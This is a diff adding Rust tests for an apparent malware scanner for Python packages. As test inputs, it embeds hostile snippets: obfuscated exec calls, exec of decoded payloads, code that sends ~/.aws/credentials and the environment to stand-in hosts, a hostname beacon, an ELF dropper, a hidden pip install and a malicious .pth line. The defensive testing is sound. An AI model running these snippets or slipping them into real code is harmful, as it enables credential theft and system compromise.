@@ -1,0 +1,149 @@
+use super::*;
+
+fn rules(text: &str, kind: Kind) -> Vec<(String, Severity, Option<Context>)> {
+    scan("pkg/mod.py", text, kind)
+        .expect("parses")
+        .into_iter()
+        .map(|f| (f.finding.rule, f.finding.severity, f.finding.context))
+        .collect()
+}
+
+fn holds(text: &str) -> Vec<String> {
+    rules(text, Kind::Module)
+        .into_iter()
+        .filter(|(_, s, _)| *s >= Severity::Quarantine)
+        .map(|(r, _, _)| r)
+        .collect()
+}
+
+#[test]
+fn exec_is_found_however_it_is_spelled() {
+    for (label, code) in [
+        ("concat", "import builtins\ngetattr(builtins, 'ex' + 'ec')('x = 1')\n"),
+        ("implicit concat", "import builtins\ngetattr(builtins, 'ev' 'al')('1')\n"),
+        ("globals escape", "globals()['\\x65\\x76\\x61\\x6c']('1')\n"),
+        ("chr join", "import builtins\nf = getattr(builtins, ''.join(map(chr, [101, 120, 101, 99])))\nf('x = 1')\n"),
+        ("dict lookup", "vars(__builtins__)['exec']('x = 1')\n"),
+        ("reversed", "import builtins\ngetattr(builtins, 'cexe'[::-1])('x = 1')\n"),
+        ("look-alike", "\u{1d68e}\u{1d6a1}\u{1d68e}\u{1d68c}('x = 1')\n"),
+    ] {
+        assert!(holds(code).contains(&"code.obfuscated-exec".to_owned()), "{label}: {:?}", rules(code, Kind::Module));
+    }
+}
+
+#[test]
+fn decoded_payloads_are_exec_decoded_wherever_they_run() {
+    let code = "import base64\ndef run():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n";
+    let found = rules(code, Kind::Module);
+    assert!(
+        found.contains(&(
+            "code.exec-decoded-payload".into(),
+            Severity::Quarantine,
+            Some(Context::Call)
+        )),
+        "{found:?}"
+    );
+    let rot13 = "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n";
+    assert_eq!(holds(rot13), ["code.exec-decoded-payload"]);
+    let xor = "import os\ndef _u(x):\n    return ''.join(chr(ord(c) ^ 0x5A) for c in x)\nos.system(_u('.(/?'))\n";
+    assert_eq!(holds(xor), ["code.exec-decoded-payload"]);
+}
+
+#[test]
+fn comments_and_docstrings_are_not_evidence() {
+    let code = "\"\"\"Reads ~/.aws/credentials and posts them; exec(base64.b64decode(x)).\"\"\"\n# os.system('curl https://x | sh')\nimport requests\n";
+    assert!(
+        rules(code, Kind::Module).is_empty(),
+        "{:?}",
+        rules(code, Kind::Module)
+    );
+}
+
+#[test]
+fn credentials_sent_anywhere_are_exfiltration_and_read_alone_a_note() {
+    let sent = "import os, urllib.request\ndef send():\n    data = open(os.path.expanduser('~/.aws/credentials')).read()\n    urllib.request.urlopen('https://c.example', data=data)\n";
+    assert_eq!(holds(sent), ["code.credential-exfil"]);
+    let read = "import os\ndef load():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n";
+    assert!(holds(read).is_empty());
+    let env = "import json, os, requests\nrequests.post('https://c.example', data=json.dumps(dict(os.environ)))\n";
+    assert_eq!(holds(env), ["code.credential-exfil"]);
+    let env_to_child = "import os, subprocess\nsubprocess.run(['ls'], env=os.environ.copy())\n";
+    assert!(holds(env_to_child).is_empty());
+}
+
+#[test]
+fn host_details_hold_only_where_code_runs_by_itself() {
+    let at_import = "import socket, requests\nrequests.get('https://b.example', params={'h': socket.gethostname()})\n";
+    assert_eq!(holds(at_import), ["code.host-beacon"]);
+    let in_function = "import socket, requests\ndef report():\n    requests.get('https://b.example', params={'h': socket.gethostname()})\n";
+    assert!(holds(in_function).is_empty());
+    let called = format!("{in_function}report()\n");
+    assert_eq!(holds(&called), ["code.host-beacon"]);
+}
+
+#[test]
+fn flows_through_functions_are_judged_at_the_call() {
+    let code = "import os, urllib.request\ndef post(body):\n    urllib.request.urlopen('https://c.example', data=body)\npost(str(os.environ))\n";
+    assert_eq!(holds(code), ["code.credential-exfil"]);
+}
+
+#[test]
+fn dropped_executables_that_are_started_are_held() {
+    let code = "import os, subprocess\nblob = b'\\x7fELF'\nwith open('/tmp/x', 'wb') as f:\n    f.write(blob)\nos.chmod('/tmp/x', 0o755)\nsubprocess.call(['/tmp/x'])\n";
+    assert_eq!(holds(code), ["binary.drop-exec"]);
+    let data = "import json\nwith open('/tmp/x.json', 'w') as f:\n    f.write('{}')\nprint(open('/tmp/x.json').read())\n";
+    assert!(holds(data).is_empty());
+}
+
+#[test]
+fn setup_py_runs_at_install() {
+    let found = rules(
+        "import subprocess\nsubprocess.check_output(['git', 'describe'])\n",
+        Kind::Setup,
+    );
+    assert_eq!(
+        found,
+        [(
+            "install.setup-command".into(),
+            Severity::Warn,
+            Some(Context::Install)
+        )]
+    );
+    let pip = "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'git+https://g.example/x.git'])\n";
+    assert!(rules(pip, Kind::Setup)
+        .iter()
+        .any(|(r, s, _)| r == "install.hidden-pip-install" && *s == Severity::Quarantine));
+}
+
+#[test]
+fn capabilities_alone_are_not_findings() {
+    for code in [
+        "import requests\nrequests.get('https://x.example')\n",
+        "import subprocess\nsubprocess.run(['ls'])\n",
+        "import base64\ndata = base64.b64decode(s)\n",
+        "x = ast.literal_eval(s)\nself.eval(y)\n",
+        "import six\nexec_ = getattr(six.moves.builtins, 'exec')\n",
+    ] {
+        assert!(
+            holds(code).is_empty(),
+            "{code}: {:?}",
+            rules(code, Kind::Module)
+        );
+    }
+}
+
+#[test]
+fn pth_lines_hold_only_when_they_do_more_than_import() {
+    let coverage = scan_pth("cov.pth", "import coverage; coverage.process_startup()\n");
+    assert_eq!(coverage.len(), 1);
+    assert_eq!(coverage[0].finding.severity, Severity::Warn);
+    let hostile = scan_pth("x.pth", "/opt/lib\nimport os; os.system('id')\n");
+    let line = hostile
+        .iter()
+        .find(|f| f.finding.rule == "install.pth-import")
+        .unwrap();
+    assert_eq!(
+        (line.finding.severity, line.finding.line),
+        (Severity::Quarantine, Some(2))
+    );
+}
